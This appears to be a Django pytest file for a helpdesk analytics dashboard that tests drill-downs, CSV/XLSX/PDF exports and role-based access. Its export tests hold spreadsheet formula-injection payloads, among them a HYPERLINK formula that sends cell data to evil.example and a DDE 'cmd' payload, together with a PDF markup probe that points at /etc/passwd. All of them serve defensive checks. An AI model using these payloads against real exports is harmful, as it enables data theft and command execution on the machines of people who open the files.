"""The dashboard, the drill-down, the exports and who may see them (web)."""

import csv
import io
from datetime import date, datetime

import openpyxl
import pytest
from django.test import Client

from serviceloop.accounts.choices import Role
from serviceloop.analytics.tests import conftest as analytics_tests
from serviceloop.improvement.tests.given import make_plan
from serviceloop.tickets.models import Ticket
from tests.builders import make_user

# The analytics tests' fixtures: the hand-computed week and an analyst.
week = analytics_tests.week
analyst = analytics_tests.analyst

WEEK = "start=2026-11-16&end=2026-11-22"


def signed_in(user) -> Client:  # type: ignore[no-untyped-def]
    client = Client()
    client.force_login(user)
    return client


def test_the_dashboard_shows_tiles_pareto_and_tables(week, analyst):
    page = signed_in(analyst).get(f"/desk/analytics/?{WEEK}")
    assert page.status_code == 200
    body = page.content.decode()
    assert 'data-metric="fcr_rate"' in body
    assert "33.3 %" in body  # FCR of the hand-computed week
    assert 'id="sl-analytics-data"' in body
    board = page.context["board"]
    assert [bar.count for bar in board.categories] == [4]
    assert board.categories[0].vital


def test_every_chart_drills_down_to_its_tickets(week, analyst):
    client = signed_in(analyst)
    phone = client.get(f"/desk/analytics/tickets/?{WEEK}&channel=phone")
    assert {t.number for t in phone.context["tickets"]} == {week.a.number, week.c.number}
    day = client.get(f"/desk/analytics/tickets/?{WEEK}&day=2026-11-20")
    assert {t.number for t in day.context["tickets"]} == {week.c.number, week.d.number}
    resolved = client.get(f"/desk/analytics/tickets/?{WEEK}&only=resolved")
    assert len(resolved.context["tickets"]) == 3


def test_a_bad_drill_point_is_a_field_error(week, analyst):
    page = signed_in(analyst).get(f"/desk/analytics/tickets/?{WEEK}&day=yesterday")
    assert page.status_code == 422
    assert "Not a valid value." in page.context["form"].non_field_errors()


def test_an_end_before_the_start_is_refused_with_a_field_error(week, analyst):
    page = signed_in(analyst).get("/desk/analytics/?start=2026-11-22&end=2026-11-01")
    assert page.status_code == 200
    assert "end" in page.context["form"].errors
    assert "board" not in page.context


def test_tickets_export_as_csv_and_xlsx(week, analyst):
    client = signed_in(analyst)
    response = client.get(f"/desk/analytics/export/tickets.csv?{WEEK}&channel=phone")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][0] == "Number"
    assert {row[0] for row in rows[1:]} == {week.a.number, week.c.number}
    response = client.get(f"/desk/analytics/export/tickets.xlsx?{WEEK}")
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = book.active
    assert sheet.max_row == 5  # header + 4 tickets
    numbers = {sheet.cell(row=r, column=1).value for r in range(2, 6)}
    assert numbers == {week.a.number, week.b.number, week.c.number, week.d.number}


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1)",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_customer_text_in_a_ticket_export_is_never_a_formula(week, analyst, formula):
    Ticket.objects.filter(pk=week.a.pk).update(subject=formula)
    client = signed_in(analyst)
    response = client.get(f"/desk/analytics/export/tickets.csv?{WEEK}")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    subjects = {row[0]: row[2] for row in csv.reader(io.StringIO(text))}
    assert subjects[week.a.number] == "'" + formula  # a spreadsheet shows it as text

    response = client.get(f"/desk/analytics/export/tickets.xlsx?{WEEK}")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    row = next(r for r in range(2, sheet.max_row + 1) if sheet.cell(r, 1).value == week.a.number)
    cell = sheet.cell(row, 3)
    assert (cell.data_type, cell.value) == ("s", formula)  # a text cell, not a formula
    assert isinstance(sheet.cell(row, 2).value, datetime)  # times stay times


def test_the_dashboard_exports_in_chinese(week, analyst):
    client = signed_in(analyst)
    response = client.get(
        f"/desk/analytics/export/dashboard.xlsx?{WEEK}", headers={"accept-language": "zh-hans"}
    )
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert len(book.sheetnames) == 7
    figures = book.worksheets[0]
    labels = [figures.cell(row=r, column=1).value for r in range(2, figures.max_row + 1)]
    assert "首次联系解决率" in labels


def test_the_diagnosis_report_is_a_pdf(week, analyst):
    response = signed_in(analyst).get(f"/desk/analytics/export/report.pdf?{WEEK}")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")


@pytest.mark.parametrize("role", [Role.CUSTOMER, Role.PARTNER])
def test_customers_and_partners_see_no_analytics(week, role):
    user = make_user(role, username=f"someone-{role}")
    assert signed_in(user).get("/desk/analytics/").status_code in (302, 403)


def test_an_agent_sees_their_teams_figures_and_only_their_own_line(week, agent, analyst):
    everyone = signed_in(analyst).get(f"/desk/analytics/?{WEEK}").context["board"].agents
    page = signed_in(agent).get(f"/desk/analytics/?{WEEK}")
    assert page.status_code == 200
    assert page.context["board"].tiles[0].value == 4  # the team's tickets
    mine = [row.key for row in everyone if row.key == agent.pk]
    assert [row.key for row in page.context["board"].agents] == mine
    assert None in [row.key for row in everyone]  # D is unassigned: not the agent's line


def test_an_agent_exports_nothing(week, agent):
    response = signed_in(agent).get(f"/desk/analytics/export/tickets.csv?{WEEK}")
    assert response.status_code == 403


def test_an_agent_cannot_read_another_teams_figures(week, outsider, team):
    page = signed_in(outsider).get(f"/desk/analytics/?{WEEK}")
    assert page.context["board"].tiles[0].value == 0  # their team has no tickets
    refused = signed_in(outsider).get(f"/desk/analytics/?{WEEK}&teams={team.pk}")
    assert "teams" in refused.context["form"].errors  # not a team they may choose
    assert "board" not in refused.context


def test_the_window_defaults_to_the_last_30_days(week, analyst):
    page = signed_in(analyst).get("/desk/analytics/")
    window = page.context["board"].window
    assert window.days == 30
    assert window.end >= date(2026, 11, 25)


def test_a_specialist_starts_a_root_cause_analysis_from_a_pain_point(week, category):
    specialist = make_user(Role.SPECIALIST, username="specialist")
    page = signed_in(specialist).get(f"/desk/analytics/?{WEEK}")
    link = f"/desk/improvement/analyses/new/?category={category.pk}&amp;"
    assert link in page.content.decode()
    read_only = signed_in(make_user(Role.ANALYST, username="reader")).get(
        f"/desk/analytics/?{WEEK}"
    )
    assert "/desk/improvement/analyses/new/" not in read_only.content.decode()


@pytest.mark.parametrize(
    "title",
    [
        "<font name='NoSuchFont'>Faster</font> answers",
        "<b>Faster answers",
        "Faster & <para>answers</para> <img src='/etc/passwd'/>",
    ],
)
def test_markup_in_a_plan_title_is_printed_not_obeyed(week, analyst, title):
    make_plan(make_user(Role.SPECIALIST), title=title)
    response = signed_in(analyst).get(f"/desk/analytics/export/report.pdf?{WEEK}")
    assert response.status_code == 200
    assert response.content.startswith(b"%PDF")


@pytest.mark.parametrize("window", ["end=0001-01-03", "start=9999-12-01&end=9999-12-31"])
@pytest.mark.parametrize("page", ["/desk/analytics/", "/desk/analytics/tickets/"])
def test_a_window_beyond_the_years_dates_can_hold_is_refused_on_its_field(analyst, page, window):
    response = signed_in(analyst).get(f"{page}?{window}")
    assert response.status_code in (200, 422)
    assert {"start", "end"} & set(response.context["form"].errors)


@pytest.mark.parametrize(
    "point", ["only=everything", "category=²", "category=" + "9" * 30, "team=x", "day=monday"]
)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_of_a_point_that_is_none_is_refused(week, analyst, point, fmt):
    response = signed_in(analyst).get(f"/desk/analytics/export/tickets.{fmt}?{WEEK}&{point}")
    assert response.status_code == 422


@pytest.mark.parametrize("point", ["category=" + "9" * 30, "assignee=" + "9" * 30])
def test_a_drill_point_beyond_any_id_is_a_field_error(week, analyst, point):
    page = signed_in(analyst).get(f"/desk/analytics/tickets/?{WEEK}&{point}")
    assert page.status_code == 422
